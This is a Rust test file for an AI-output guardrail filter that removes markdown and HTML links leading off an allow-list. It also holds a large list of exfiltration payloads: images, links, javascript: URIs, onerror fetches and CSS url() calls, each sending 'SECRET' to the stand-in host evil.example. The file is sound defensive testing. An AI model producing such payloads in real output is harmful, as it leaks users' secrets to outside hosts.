//! Exfiltration channels: nothing leads off the list, whatever the address is dressed in.

use privet_guardrails::controls::{Action, Channels, ChannelsConfig, Error, Filter};
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};

use crate::cuts::{cuts, run, same_however_cut, texts};

fn config() -> ChannelsConfig {
    ChannelsConfig {
        hosts: vec![
            "good.example".to_owned(),
            "*.good.example".to_owned(),
            "shared.example/public/".to_owned(),
        ],
        ..ChannelsConfig::default()
    }
}

fn clean(text: &str) -> String {
    run(&mut Channels::new(&config()).unwrap(), text, &[]).text
}

/// Each carries `SECRET` to somebody else.
const ATTACKS: &[&str] = &[
    "![x](https://evil.example/?q=SECRET)",
    "![x](<https://evil.example/?q=SECRET> \"title\")",
    "![x](\n  https://evil.example/?q=SECRET)",
    "[click](https://evil.example/SECRET)",
    "[![x](https://evil.example/SECRET)](https://good.example/)",
    "![x][1]\n\n[1]: https://evil.example/?q=SECRET",
    "[x]\n\n[x]:\n  <https://evil.example/SECRET>",
    "![x](//evil.example/SECRET)",
    "![x](\\\\evil.example/SECRET)",
    "![x](/\\evil.example/SECRET)",
    "![x](https:evil.example/SECRET)",
    "![x](https:/evil.example/SECRET)",
    "![x](https\\://evil.example/SECRET)",
    "![x](&#104;ttps://evil.example/SECRET)",
    "![x](https&colon;//evil.example/SECRET)",
    "![x](https://good.example@evil.example/SECRET)",
    "![x](https://good.example.evil.example/SECRET)",
    "![x](https://evilgood.example/SECRET)",
    "![x](https://evil.example%2f.good.example/SECRET)",
    "![x](https://evil。example/SECRET)",
    "![x](HTTPS://EVIL.EXAMPLE/SECRET)",
    "![x](https://shared.example/private/SECRET)",
    "![x](https://shared.example/public/../private/SECRET)",
    "![x](https://shared.example/public/%2e%2e/private/SECRET)",
    "![x](https://good.example:8443/SECRET)",
    "[x](javascript:fetch('https://evil.example/SECRET'))",
    "[x](java&Tab;script:alert('SECRET'))",
    "[x](data:text/html;base64,SECRET)",
    "[x](mailto:eve@evil.example?body=SECRET)",
    "[x](vbscript:SECRET)",
    "<https://evil.example/SECRET>",
    "<javascript:alert('SECRET')>",
    "<data:text/html,SECRET>",
    "<ms-word:ofe|u|https://evil.example/SECRET>",
    "<scriptmailto:SECRET>",
    "<scriptmailto:>SECRET",
    "<x.y+z-1:SECRET>",
    "<unheard-of://?SECRET>",
    "<https://(>SECRET",
    "<https://good.example)>SECRET",
    "<scripthttps:////<script![SECRET>",
    "<xx:SECRET/src=\"//evil.example/ x\">",
    "see https://evil.example/?q=SECRET for more",
    "see www.evil.example/SECRET for more",
    "see ftp://evil.example/SECRET for more",
    "(https://evil.example/SECRET)",
    "https://good.example/?u=https://evil.example/SECRET",
    "https://good.example,x.evil.example/SECRET",
    "https://good.example\"x.evil.example/SECRET",
    "https://good.example:x@evil.example/SECRET",
    "<img src=\"https://evil.example/SECRET\">",
    "<img src='https://evil.example/SECRET'>",
    "<img src=https://evil.example/SECRET>",
    "<img src=//evil.example/SECRET>",
    "<img/src=//evil.example/SECRET>",
    "<IMG SRC = \"\n//evil.example/SECRET\">",
    "<img alt=\">\" src=\"//evil.example/SECRET\">",
    "<img srcset=\"/a.png 1x, //evil.example/SECRET 2x\">",
    "<img src=\"h\nttps://evil.example/SECRET\">",
    "<img src=\"&#x2f;&#x2f;evil.example/SECRET\">",
    "<img src=x onerror=\"fetch('//evil.example/SECRET')\">",
    "<a href=\"javascript:alert('SECRET')\">x</a>",
    "<a href=\"/x\" ping=\"//evil.example/SECRET\">x</a>",
    "<form action=\"//evil.example/SECRET\"><button formaction=\"//evil.example/SECRET\">x</button></form>",
    "<video poster=//evil.example/SECRET></video>",
    "<p style=\"background: url(//evil.example/SECRET)\">x</p>",
    "<p style=\"background: u\\72l(//evil.example/SECRET)\">x</p>",
    "<style>@import '//evil.example/SECRET';</style>",
    "<link rel=stylesheet href=//evil.example/SECRET>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/SECRET\">",
    "<base href=\"//evil.example/SECRET\">",
    "<iframe srcdoc=\"&lt;img src=//evil.example/SECRET&gt;\"></iframe>",
    "<svg><image href=\"//evil.example/SECRET\"/></svg>",
    "<object data=\"//evil.example/SECRET\"></object>",
    "a <b ![x](//evil.example/SECRET)",
    "a <b title=\"![x](//evil.example/SECRET)",
    "a <b title=\"x <img src=//evil.example/SECRET>",
    "<!-- <b title=\" --> <img src=//evil.example/SECRET>",
    "<!-- <b title=' --> <img alt=\"<i title=\" src=//evil.example/SECRET>",
    "<textarea><b title=\"</textarea><img src=//evil.example/SECRET>",
    "> ![x](\n> //evil.example/SECRET)",
    "![x]\n\n> [x]:\n> //evil.example/SECRET",
    "> <img src=\n> //evil.example/SECRET>",
    "> <img src=\"h\n> ttps://evil.example/SECRET\">",
    "[[//evil.example/SECRET]] ![[https:evil.example/SECRET|x]]",
];

const TWINS: &[&str] = &[
    "![logo](https://good.example/logo.png \"our logo\")",
    "![logo](https://img.good.example/a/b.png)",
    "[docs](https://good.example/a(b)/c?d=e#f), and more",
    "[docs][1]\n\n[1]: https://good.example/docs \"title\"",
    "[a file](https://shared.example/public/file.pdf)",
    "[section](#section) and [page](../page.md)",
    "see https://good.example/path, or (https://www.good.example).",
    "**https://good.example**",
    "{\"u\":\"https://good.example\",\"v\":1}",
    "<https://good.example/x>",
    "<xs:element name=\"x\"><b/></xs:element> and <x:y>, a<b: c>",
    "<img src=\"https://good.example/a.png\" alt=\"a > b\">",
    "<a href='/here' title=\"x\">here</a>",
    "if a <b and c> d, then x = 'y'",
    "Vec<String>, HashMap<K, V>, i <n; j = \"text\"",
    "fn main() { handlers[name](event, data); }",
    "[note]: the ratio is 3:1, at 10:30",
    "- [x] done: see below",
    "std::vec::Vec, a::b://",
    "data: the values; javascript: a language",
    "mail eve@evil.example, or call",
    "<b>bold</b> <p style=\"color: red\">x</p> <br/>",
    "C:\\Users\\me, D:/x, 1:2, key: value",
    "array[0]: 7\nmatrix[i][j](k)",
];

#[test]
fn no_secret_is_carried_off_the_list() {
    let got_out: Vec<(&str, String)> = ATTACKS
        .iter()
        .map(|attack| (*attack, clean(attack)))
        .filter(|(attack, left)| attack == left || leads_off(left))
        .collect();
    assert!(got_out.is_empty(), "{got_out:#?}");
}

#[test]
fn what_leads_nowhere_else_is_left_alone() {
    let changed: Vec<(&str, String)> = TWINS
        .iter()
        .map(|twin| (*twin, clean(twin)))
        .filter(|(twin, left)| twin != left)
        .collect();
    assert!(changed.is_empty(), "{changed:#?}");
}

#[test]
fn an_address_among_words_leaves_the_words() {
    for (text, left) in [
        (
            "see [here](https://evil.example/x \"t\") please",
            "see [here] (link removed \"t\") please",
        ),
        (
            "see [here](<https://evil.example/x>) please",
            "see [here] (link removed) please",
        ),
        (
            "see https://evil.example/x?y=z please",
            "see (link removed) please",
        ),
        (
            "<img src=\"https://evil.example/x\" alt=\"y\"> please",
            "<img src=\"\" alt=\"y\"> please",
        ),
        ("<a href=javascript:x>y</a>", "<a href=\"\">y</a>"),
        ("<script>x</script>", "&lt;script>x</script>"),
    ] {
        assert_eq!(clean(text), left);
    }
}

#[test]
fn a_blocked_reply_ends_before_the_address() {
    let config = ChannelsConfig {
        action: Action::Block,
        ..config()
    };
    let passed = run(
        &mut Channels::new(&config).unwrap(),
        "so ![x](https://evil.example/) and",
        &[],
    );
    assert_eq!((passed.text.as_str(), passed.action()), ("so ![x", Action::Block));
    let config = ChannelsConfig {
        action: Action::Flag,
        ..config
    };
    let passed = run(
        &mut Channels::new(&config).unwrap(),
        "so ![x](https://evil.example/) and",
        &[],
    );
    assert_eq!(
        (passed.text.as_str(), passed.action()),
        ("so ![x](https://evil.example/) and", Action::Flag)
    );
}

#[test]
fn what_is_held_back_is_bounded() {
    for start in ["![x](", "<img src=\"", "[1]: ", "https://", "<", "]("] {
        let mut filter = Channels::new(&config()).unwrap();
        let mut passed = Default::default();
        let text = format!("{start}{}", "a".repeat(5000));
        filter
            .push(&text, &mut passed, &privet_types::Budget::unlimited())
            .unwrap();
        assert!(
            passed.text.contains("(link removed") || passed.text.len() > 2500 || passed.text == "<img src=\"",
            "{start}: {}",
            passed.text.len()
        );
    }
}

#[test]
fn a_list_that_cannot_be_meant_is_refused() {
    for host in [
        "",
        "https://good.example",
        "*",
        "a/*/b/",
        "good.example/path",
        "u@good.example",
        "a b",
    ] {
        let config = ChannelsConfig {
            hosts: vec![host.to_owned()],
            ..ChannelsConfig::default()
        };
        let error = Channels::new(&config).err();
        assert!(matches!(error, Some(Error::Config { .. })), "{host}");
    }
    let config = ChannelsConfig {
        schemes: vec!["javascript".to_owned()],
        ..ChannelsConfig::default()
    };
    assert!(Channels::new(&config).is_err());
}

/// Whether a reader of CommonMark, or of HTML, finds an address off the list in `text`. Not the code under test.
fn leads_off(text: &str) -> bool {
    let is_off = |address: &str| {
        let base = url::Url::parse("https://here.invalid/").unwrap();
        base.join(address).is_ok_and(|url| {
            let host = url.host_str().unwrap_or_default();
            let is_good = host == "here.invalid"
                || host == "good.example"
                || host.ends_with(".good.example")
                || (host == "shared.example" && url.path().starts_with("/public/"));
            !is_good || url.port().is_some() || !matches!(url.scheme(), "http" | "https")
        })
    };
    let markdown = Parser::new_ext(text, Options::all()).any(|event| match event {
        Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => is_off(&dest_url),
        Event::Html(html) | Event::InlineHtml(html) => html_leads_off(&html, &is_off),
        _ => false,
    });
    markdown || html_leads_off(text, &is_off)
}

fn html_leads_off(html: &str, is_off: &dyn Fn(&str) -> bool) -> bool {
    html5gum::Tokenizer::new(html).any(|token| match token {
        Ok(html5gum::Token::StartTag(tag)) => {
            let name = String::from_utf8_lossy(&tag.name).into_owned();
            let acts = [
                "script", "style", "iframe", "svg", "meta", "base", "link", "object",
            ]
            .contains(&name.as_str());
            acts || tag.attributes.iter().any(|(name, value)| {
                let value = String::from_utf8_lossy(&value.value);
                let value = value.trim_matches(|c: char| c <= ' ');
                match String::from_utf8_lossy(name).as_ref() {
                    "src" | "href" | "action" | "formaction" | "poster" | "ping" => is_off(value),
                    "srcset" => value.split([',', ' ']).any(&is_off),
                    "style" => value.contains("url") || value.contains('\\'),
                    name => name.starts_with("on") && !value.is_empty(),
                }
            })
        }
        _ => false,
    })
}

const SCRAPS: &[&str] = &[
    "![",
    "[",
    "x",
    "]",
    "](",
    "(",
    ")",
    "]:",
    " ",
    "\n",
    "<",
    ">",
    "\"",
    "'",
    "`",
    "\\",
    "https://",
    "http:",
    "//",
    "/",
    "evil.example",
    "good.example",
    "?q=",
    "#",
    "@",
    ":",
    "&#104;",
    "&colon;",
    "www.",
    "<img src=",
    "<a href=",
    " onerror=",
    "javascript:",
    "data:",
    "style=",
    "url(",
    "é",
    "=",
    "<b ",
    "<script",
    "[[",
    " title=",
    "\n> ",
    "|",
    "<img alt=",
    "mailto:",
    "。",
    ",",
    ".",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn no_text_leads_off_the_list_in_the_eyes_of_another_parser(text in texts(SCRAPS)) {
        let left = clean(&text);
        prop_assert!(!leads_off(&left), "{text:?} became {left:?}");
    }

    #[test]
    fn addresses_are_told_however_a_text_is_cut(text in texts(SCRAPS), cuts in cuts(), action in prop::sample::select(&[Action::Flag, Action::Redact, Action::Block][..])) {
        let config = ChannelsConfig { action, ..config() };
        same_however_cut(&|| Box::new(Channels::new(&config).unwrap()), &text, &cuts);
    }
}
